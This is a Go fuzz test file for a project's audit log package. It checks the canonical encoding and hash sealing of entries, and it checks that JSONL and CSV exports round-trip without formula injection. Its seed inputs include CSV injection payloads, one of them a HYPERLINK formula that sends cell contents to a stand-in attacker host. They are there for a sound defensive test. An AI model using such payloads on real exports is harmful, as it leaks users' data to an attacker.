package audit_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"maps"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/countersign/countersign/audit"
)

// decodeCanonical reads a canonical encoding back: it fails unless the
// bytes are exactly what Canonical writes for some fields.
func decodeCanonical(b []byte) (map[string]string, bool) {
	rest, ok := bytes.CutPrefix(b, []byte("countersign-audit-v1\n"))
	if !ok {
		return nil, false
	}
	next := func() (string, bool) {
		n, after, ok := bytes.Cut(rest, []byte(":"))
		l, err := strconv.Atoi(string(n))
		if !ok || err != nil || l < 0 || l > len(after) || strconv.Itoa(l) != string(n) {
			return "", false
		}
		rest = after[l:]
		return string(after[:l]), true
	}
	out := map[string]string{}
	last := ""
	for len(rest) > 0 {
		k, ok1 := next()
		v, ok2 := next()
		if !ok1 || !ok2 || len(rest) == 0 || rest[0] != '\n' || (len(out) > 0 && k <= last) {
			return nil, false
		}
		rest = rest[1:]
		out[k], last = v, k
	}
	return out, true
}

// The canonical encoding is injective: it decodes to the fields it was
// made of, so no two entries share an encoding (and a hash, short of a
// SHA-256 collision). SealFields seals as Seal does, its fields in the
// canonical order, and its hash is Sum's.
func FuzzCanonical(f *testing.F) {
	f.Add("event", "decision", "by", "U1", "")
	f.Add("a", "1:b", "a:1", "b", "x")
	f.Add("", "", "\n", "3:abc\n", "seq")
	f.Add("hasi", "x", "hash0", "", "has")
	f.Fuzz(func(t *testing.T, k1, v1, k2, v2, k3 string) {
		fields := map[string]string{k1: v1, k2: v2, k3: v1 + v2}
		got, ok := decodeCanonical(audit.Canonical(fields))
		delete(fields, "hash")
		if !ok || !maps.Equal(got, fields) {
			t.Fatalf("Canonical(%q) decodes to %q (%v)", fields, got, ok)
		}

		head := audit.Head{Hash: v2, Seq: int64(len(v1))}
		sealed, next, err := audit.SealFields(fields, head)
		want, wantNext, wantErr := audit.Seal(fields, head)
		if (err == nil) != (wantErr == nil) || next != wantNext {
			t.Fatalf("SealFields(%q) = %v, %v; Seal = %v, %v", fields, next, err, wantNext, wantErr)
		}
		if err != nil {
			return
		}
		asMap := map[string]string{}
		for i, fl := range sealed {
			if i > 0 && sealed[i-1].Name >= fl.Name {
				t.Fatalf("SealFields(%q) = %q: not in the byte order of the names", fields, sealed)
			}
			asMap[fl.Name] = fl.Value
		}
		if !maps.Equal(asMap, want) || want["hash"] != audit.Sum(want) || next.Hash != want["hash"] {
			t.Fatalf("SealFields(%q) = %q; Seal = %q", fields, sealed, want)
		}
		// What Seal returns: the fields with a value, seq, prev and hash.
		kept := maps.Clone(fields)
		maps.DeleteFunc(kept, func(_, v string) bool { return v == "" })
		kept["seq"] = strconv.FormatInt(head.Seq+1, 10)
		if head.Hash != "" {
			kept["prev"] = head.Hash
		}
		kept["hash"] = audit.Sum(kept)
		if !maps.Equal(want, kept) {
			t.Fatalf("Seal(%q) = %q, want %q", fields, want, kept)
		}
	})
}

// Whatever an export reader is given, it does not panic; what it reads
// is written back as it was read; fields written are read back; and no
// cell of a CSV export is unquoted, spans lines or starts with a formula
// character.
func FuzzExport(f *testing.F) {
	entries, _ := chain(f, 1, 2)
	for _, format := range []audit.Format{audit.JSONL, audit.CSV} {
		var b strings.Builder
		w := audit.NewWriter(&b, format)
		for _, e := range entries {
			_ = w.Write(e)
		}
		_ = w.Flush()
		f.Add(b.String(), format == audit.CSV, "reason", "a\r\nb")
	}
	f.Add(`{"id":"1-0","a":"\u0000"}`, false, "other", "")
	f.Add("id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n", true, "by", "=1+1")
	f.Add("", true, "reason", `=HYPERLINK("https://evil.example/?d="&B2&C2,"details")`)
	f.Add("", true, "tool", "'@x")
	f.Add("", true, "note", "\t-1")
	f.Add("", true, "reason", "fine\n=1+1")
	f.Fuzz(func(t *testing.T, in string, isCSV bool, name, value string) {
		format := audit.JSONL
		if isCSV {
			format = audit.CSV
		}
		read, err := readAllErr(in, format)
		if err == nil {
			out := writeAll(t, read, format)
			if again, err := readAllErr(out, format); err != nil || !sameEntries(again, read) {
				t.Fatalf("%s %q read as %v, written and read again as %v, %v", format, in, read, again, err)
			}
			if format == audit.CSV {
				noFormulas(t, out)
			}
		}
		if !utf8.ValidString(name) || !utf8.ValidString(value) || name == "id" || name == "time" {
			return // JSON carries text; id and time are the entry's own
		}
		e := audit.Entry{ID: "1700000000000-1", Fields: map[string]string{name: value, "seq": "1"}}
		out := writeAll(t, []audit.Entry{e}, format)
		got, err := readAllErr(out, format)
		if err != nil || len(got) != 1 || !sameEntries(got, []audit.Entry{e}) {
			t.Fatalf("%s: wrote %+v, read back %+v, %v", format, e, got, err)
		}
		if format == audit.CSV {
			noFormulas(t, out)
		}
	})
}

// noFormulas fails the test if a cell of a CSV export starts with a
// formula character, is not quoted, or spans lines.
func noFormulas(t *testing.T, out string) {
	t.Helper()
	for _, cell := range csvCells(t, out) {
		if cell != "" && strings.ContainsRune(audit.FormulaPrefixes, rune(cell[0])) {
			t.Fatalf("CSV export has the cell %q, which starts with a formula character:\n%s", cell, out)
		}
	}
}

// csvCells returns the cells of a CSV export as a spreadsheet sees them,
// before Reader takes the single quotes off, and fails the test unless
// every cell is quoted.
func csvCells(t *testing.T, out string) []string {
	t.Helper()
	// Outside quotes, only a separator, a line's end or a quote that
	// opens a cell.
	quoted, start := false, true
	for i := 0; i < len(out); i++ {
		c := out[i]
		switch {
		case quoted && c == '"' && i+1 < len(out) && out[i+1] == '"':
			i++
		case quoted && c == '"':
			quoted, start = false, false
		case quoted && (c == '\n' || c == '\r'):
			t.Fatalf("CSV export has a cell over several lines at byte %d:\n%s", i, out)
		case quoted:
		case start && c == '"':
			quoted = true
		case !start && (c == ',' || c == '\n'):
			start = true
		default:
			t.Fatalf("CSV export has an unquoted cell at byte %d:\n%s", i, out)
		}
	}
	r := csv.NewReader(strings.NewReader(out))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV export does not read as CSV: %v\n%s", err, out)
	}
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
	}
	return cells
}

func writeAll(t *testing.T, entries []audit.Entry, f audit.Format) string {
	var b strings.Builder
	w := audit.NewWriter(&b, f)
	for _, e := range entries {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func readAllErr(s string, f audit.Format) ([]audit.Entry, error) {
	r := audit.NewReader(strings.NewReader(s), f)
	var out []audit.Entry
	for {
		e, err := r.Read()
		if errors.Is(err, io.EOF) {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, e)
	}
}

func sameEntries(a, b []audit.Entry) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i].ID != b[i].ID || !maps.Equal(a[i].Fields, b[i].Fields) {
			return false
		}
	}
	return true
}
